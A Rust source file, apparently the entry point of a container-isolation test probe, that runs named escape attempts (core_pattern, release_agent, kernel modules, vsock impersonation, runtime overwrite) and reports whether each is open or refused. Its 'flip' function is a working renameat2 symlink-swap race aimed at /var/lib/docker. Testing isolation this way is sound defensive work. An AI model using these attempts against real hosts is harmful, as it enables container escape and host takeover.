//! The attempts of a hostile process in a container. Each attempt prints a line: its name, `open` if it succeeded,
//! `refused` or `absent` if not, and a detail, with tabs between them.

mod attempt;
mod devices;
mod files;
mod kernel;
mod mounts;
mod namespaces;
mod network;
mod plugin;
mod ring;
mod shares;
mod sys;
mod tables;
mod vsock;

use std::{
    fs,
    path::Path,
    process::ExitCode,
    time::{Duration, Instant},
};

use attempt::{Named, report};

const ATTEMPTS: &[Named] = &[
    ("descriptors", namespaces::descriptors),
    ("working directory", namespaces::working_directory),
    ("core_pattern", files::core_pattern),
    ("usermode helpers", files::usermode_helpers),
    ("sysctls", files::sysctls),
    ("sysfs files", files::sysfs),
    ("procfs files", files::procfs),
    ("kernel memory", files::kernel_memory),
    ("kernel addresses", files::kernel_addresses),
    ("cgroup limits", files::cgroup_limits),
    ("release_agent", files::release_agent),
    ("block devices", devices::block_devices),
    ("mounting disks", devices::mount_disks),
    ("machine devices", devices::machine),
    ("consoles", devices::consoles),
    ("file systems", devices::file_systems),
    ("file handles", devices::file_handles),
    ("bpf", kernel::bpf),
    ("modules", kernel::modules),
    ("kexec", kernel::kexec),
    ("clock", kernel::clock),
    ("perf events", kernel::perf_events),
    ("kernel log", kernel::kernel_log),
    ("swap and accounting", kernel::swap_and_accounting),
    ("ports", kernel::ports),
    ("precedence", kernel::precedence),
    ("foreign ids", kernel::foreign_ids),
    ("keyrings", kernel::keyrings),
    ("foreign processes", namespaces::foreign_processes),
    ("foreign roots", namespaces::foreign_roots),
    ("foreign namespaces", namespaces::foreign_namespaces),
    ("wide id map", namespaces::wide_id_map),
    ("tcp", network::tcp),
    ("abstract sockets", network::abstract_sockets),
    ("engine sockets", network::engine_sockets),
    ("vsock socket", vsock::socket_plain),
    ("vsock socket, high bits", vsock::socket_high_bits),
    ("vsock socket, 32-bit", vsock::socket_32),
    ("vsock socketcall, 32-bit", vsock::socketcall_32),
    ("vsock socket, x32", vsock::socket_x32),
    ("vsock socket, io_uring", vsock::socket_by_ring),
    ("vsock to the agent", vsock::agent),
    ("vsock to the gate", vsock::gate),
    ("vsock as the gate", vsock::impersonate),
    ("vsock to another container", vsock::between),
    // Shows more than a container may reach: for the suite, not for the list of all.
    ("listeners", network::listeners),
];

/// Not part of `all`.
const APART: &[&str] = &["listeners"];

fn main() -> ExitCode {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    match words[..] {
        ["all"] => {
            for (name, attempt) in ATTEMPTS.iter().filter(|(name, _)| !APART.contains(name)) {
                report(name, attempt);
            }
        }
        ["only", ref names @ ..] => {
            for (name, attempt) in ATTEMPTS.iter().filter(|(name, _)| names.contains(name)) {
                report(name, attempt);
            }
        }
        ["mounts", flag, ref paths @ ..] => {
            let Some((_, lift)) = mounts::FLAGS.iter().find(|(name, _)| *name == flag) else { return usage() };
            for path in paths {
                for way in mounts::WAYS {
                    let name = format!("{}, {path}", way.0);
                    report(&name, || mounts::take_back(path, way, *lift, false));
                    report(&format!("{name}, inner namespace"), || mounts::take_back(path, way, *lift, true));
                }
            }
        }
        ["shares", ref words @ ..] => {
            let Some(places) = shares::Places::new(words) else { return usage() };
            shares::all(&places);
        }
        ["overwrite", seconds] => {
            let seconds = seconds.parse().unwrap_or(10);
            report("runtime overwrite", || namespaces::overwrite_runtime(seconds));
        }
        ["victim"] => {
            match kernel::add_key() {
                Ok(serial) => println!("key {serial}"),
                Err(error) => println!("key none {error}"),
            }
            std::thread::sleep(Duration::from_secs(3600));
        }
        ["plugin", socket] => plugin::serve(socket),
        ["hog", table] if tables::hog(table) => {}
        ["take", table] if tables::take(table) => {}
        ["flip", directory, seconds] => flip(Path::new(directory), seconds.parse().unwrap_or(10)),
        _ => return usage(),
    }
    ExitCode::SUCCESS
}

fn usage() -> ExitCode {
    eprintln!(
        "usage: probe all | only NAME… | mounts FLAG PATH… | shares SHARE FIXED BIND OUTSIDE OTHER OWN… | \
         overwrite SECONDS | victim | flip DIRECTORY SECONDS | \
         plugin SOCKET | hog TABLE | take TABLE"
    );
    ExitCode::from(2)
}

/// Makes `directory/turn` a directory and a link to the VM's, in turns and without a gap.
fn flip(directory: &Path, seconds: u64) {
    let (turn, other) = (directory.join("turn"), directory.join("other"));
    let _ = fs::create_dir_all(&turn);
    let _ = std::os::unix::fs::symlink("/../../../../../../../../../../var/lib/docker", &other);
    let (Ok(first), Ok(second)) = (sys::c(&turn.to_string_lossy()), sys::c(&other.to_string_lossy())) else { return };
    let until = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < until {
        let at = libc::AT_FDCWD;
        let _ = sys::call(libc::SYS_renameat2, &[&at, &&first, &at, &&second, &libc::RENAME_EXCHANGE]);
        // The process that should lose the race needs the processor as well.
        std::thread::sleep(Duration::from_micros(300));
    }
}
